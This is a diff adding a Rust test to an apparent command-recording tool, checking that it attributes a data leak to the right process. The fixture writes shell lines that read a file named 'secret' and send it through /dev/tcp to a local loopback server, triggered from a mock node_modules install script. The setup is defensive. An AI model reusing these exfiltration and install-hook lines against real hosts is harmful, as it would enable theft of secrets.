@@ -430,6 +430,39 @@ fn exfil_has_the_time_of_the_connection() {
     assert!(text.contains(&shown), "{text} {ends}");
 }
 
+/// Commands that run at the same time can use the same address.
+#[test]
+fn exfil_names_no_program_of_another_command() {
+    if !backstory_testkit::need::needs("clients", &["bash", "perl"]) {
+        return;
+    }
+    let place = Place::new();
+    let server = LoopbackServer::new(2, "");
+    place.write("secret", "s\n");
+    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{}", server.port);
+    place.write(
+        "send.sh",
+        &format!("{connect}\nread x < secret; echo $x >&3\n"),
+    );
+    place.write("other.sh", &format!("{connect}\necho other >&3\n"));
+    std::fs::create_dir(place.path("node_modules")).unwrap();
+    place.write(
+        "node_modules/install.pl",
+        "system('bash', 'send.sh'); open(F, '>', 'sent'); close(F);\n\
+         for (1..12000) { last if -e 'done'; select(undef, undef, undef, 0.01); }\n",
+    );
+    // The other command uses the address later, and while the first one is executed.
+    place.record(
+        "perl node_modules/install.pl & i=0; until [ -e sent ]; do i=$((i+1)); \
+         [ $i -lt 12000 ] || exit 9; sleep 0.01; done; bash other.sh; : > done; wait",
+    );
+    server.end();
+    let sent = place.run(&["exfil", "secret"]).out;
+    let own = ", sent 2 B, received 0 B, by bash send.sh\n";
+    assert!(sent.contains(own), "{sent}");
+    assert!(!sent.contains("other.sh"), "{sent}");
+}
+
 #[test]
 fn a_command_that_makes_a_file_of_nothing_is_a_step() {
     let place = Place::new();
